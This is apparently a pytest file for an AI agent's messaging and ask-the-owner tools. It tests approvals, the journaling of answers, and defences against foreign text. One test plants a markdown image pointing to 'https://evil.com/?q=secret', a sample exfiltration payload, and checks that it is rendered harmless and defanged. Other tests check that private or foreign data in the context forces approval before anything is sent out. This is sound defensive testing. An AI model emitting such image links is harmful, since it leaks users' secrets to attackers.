"""The tools that talk: a message beside the answer, a question in the midst of a job."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from stead.agent.permits import Asker
from stead.agent.tools.ask_owner import ASK_OWNER
from stead.agent.tools.base import Context, Toolbox
from stead.agent.tools.message import MESSAGE
from stead.core.nouns import Turn
from stead.core.permits import Answered, Approval
from stead.core.states import StepState
from tests.unit.agent.parts import NATIVE, SCHEMA, Bell, Say, Script, Tried, attempt, call
from tests.unit.agent.test_permits import Reader

BOTH = pytest.mark.parametrize("profile", [NATIVE, SCHEMA], ids=["native", "schema"])


def tools() -> Toolbox:
    return Toolbox([*Bell().toolbox(), MESSAGE, ASK_OWNER], Context(Path("/nonexistent")))


def asked(tried: Tried) -> Approval:
    assert tried.result is not None and tried.result.approval is not None, tried
    return tried.result.approval


@BOTH
def test_a_question_waits_for_its_answer(profile: Any) -> None:
    """The job waits with the question and its choices; the owner's words are the result, once."""
    script = (call("ask_owner", question="Which?", choices=["red", "blue"]), Say("blue it is"))
    first = attempt(Script(*script), tools(), profile=profile)
    question = asked(first)
    assert (question.kind, question.preview, question.offers) == (
        "question", "Which?", ("red", "blue"),
    )  # fmt: skip
    said = Asker(answered=(Answered(question.seq, question.digest, "answer", "blue"),))
    again = attempt(
        Script(*script), tools(), profile=profile, past=first.journal.list(), asker=said
    )
    assert again.result is not None and again.result.text == "blue it is"
    assert again.model.asked[0].messages[-1]["content"].endswith("blue")
    third = attempt(Script(*script), tools(), profile=profile, past=again.journal.list())
    assert third.result == again.result, "an answer that was used is in the journal"
    late = Asker(answered=(Answered(question.seq, question.digest, "expired"),))
    tried = attempt(Script(*script), tools(), profile=profile, asker=late)
    assert "did not answer in time" in tried.model.asked[-1].messages[-1]["content"]


def test_another_question_is_asked_anew() -> None:
    """An answer is for the question that was asked."""
    question = asked(attempt(Script(call("ask_owner", question="A?"), Say("ok")), tools()))
    said = Asker(answered=(Answered(question.seq, question.digest, "answer", "yes"),))
    other = attempt(Script(call("ask_owner", question="B?"), Say("ok")), tools(), asker=said)
    assert asked(other).preview == "B?"


@BOTH
def test_a_message_to_the_owner_travels_with_its_outcome(profile: Any) -> None:
    """It needs no approval, and is in the journal with its text, for the gateway to send."""
    script = (call("message", text="half done"), Say("done"))
    tried = attempt(Script(*script), tools(), profile=profile)
    assert tried.result is not None and tried.result.text == "done"
    (step,) = [step for step in tried.journal.list() if step.name == "tool:message"]
    assert step.state is StepState.DONE
    assert json.loads(step.output)["post"] == {"to": "owner", "text": "half done"}


def test_a_message_to_others_is_asked_about() -> None:
    """With to whom and every word; a channel that is not there is told to the model."""
    script = (call("message", text="hello", to="shop"), Say("done"))
    question = asked(attempt(Script(*script), tools(), channels=("shop",)))
    assert "'shop'" in question.preview and "hello" in question.preview
    tried = attempt(Script(*script), tools(), channels=("mail",))
    told = tried.model.asked[1].messages[-1]["content"]
    assert "no channel 'shop'" in told and "owner, mail" in told


def test_what_foreign_text_may_have_written_is_shown_harmlessly() -> None:
    """Answer and messages of a run that has read it hold no picture; the journal has what the
    model said, so that a resume shows the same."""
    house = Reader()
    box = Toolbox([*house.toolbox(), MESSAGE], Context(Path("/nonexistent")))
    picture = "![x](https://evil.com/?q=secret) end"
    script = (call("page", word="a"), call("message", text=picture), Say(picture))
    tried = attempt(Script(*script), box)
    assert tried.result is not None
    expected = "[picture: x](https://evil.com/?q=secret) end"
    assert tried.result.text == expected == "".join(tried.said.all("token"))
    steps = tried.journal.list()
    posted = [json.loads(step.output)["post"] for step in steps if step.name == "tool:message"]
    assert posted == [{"to": "owner", "text": expected}]
    again = attempt(Script(*script), box, past=steps)
    assert again.result == tried.result
    private = (call("notes", word="n"), *script)
    tried = attempt(Script(*private), box)
    assert tried.result is not None and "https[:]//evil.com" in tried.result.text


def test_history_is_known() -> None:
    """Addresses that the conversation holds may be named again."""
    house = Reader()
    script = (call("notes", word="n"), call("page", word="a"), Say("see https://mine.org/a ok"))
    history = [Turn("user", "mine is https://mine.org/a"), Turn("assistant", "noted")]
    tried = attempt(Script(*script), house.toolbox(), history=history)
    assert tried.result is not None and tried.result.text == "see https://mine.org/a ok"


@pytest.mark.parametrize(
    ("read", "calls", "asks"),
    [
        ("private", ("page", "page"), True),
        ("foreign", ("notes", "page"), True),
        ("foreign private", ("page",), True),
        ("", ("page", "page"), False),
        ("private", ("page",), False),
        ("foreign", ("page", "page"), False),
    ],
)
def test_what_earlier_answers_were_made_of_counts(
    read: str, calls: tuple[str, ...], asks: bool
) -> None:
    """Private data or foreign text that came into the conversation by an earlier answer is there
    still when something would be sent out."""
    house = Reader()
    history = [Turn("user", "what is new?"), Turn("assistant", "this and that", read)]
    script = [call(name, word=str(n)) for n, name in enumerate(calls)]
    tried = attempt(Script(*script, Say("ok")), house.toolbox(), history=history)
    assert tried.result is not None
    assert (tried.result.outcome == "waiting") is asks
    if not asks:
        assert {*read.split()} <= {*tried.result.read.split()}


def test_a_message_from_outside_stays_foreign_in_the_conversation() -> None:
    """Later turns of the owner show it as quoted material, not as his own words."""
    history = [Turn("user", "please ring", "foreign"), Turn("assistant", "a shop wrote", "foreign")]
    tried = attempt(Script(Say("ok")), Bell().toolbox(), history=history)
    said = [message["content"] for message in tried.model.asked[0].messages]
    (quoted,) = [text for text in said if "please ring" in text]
    assert quoted.startswith("[foreign text from outside")
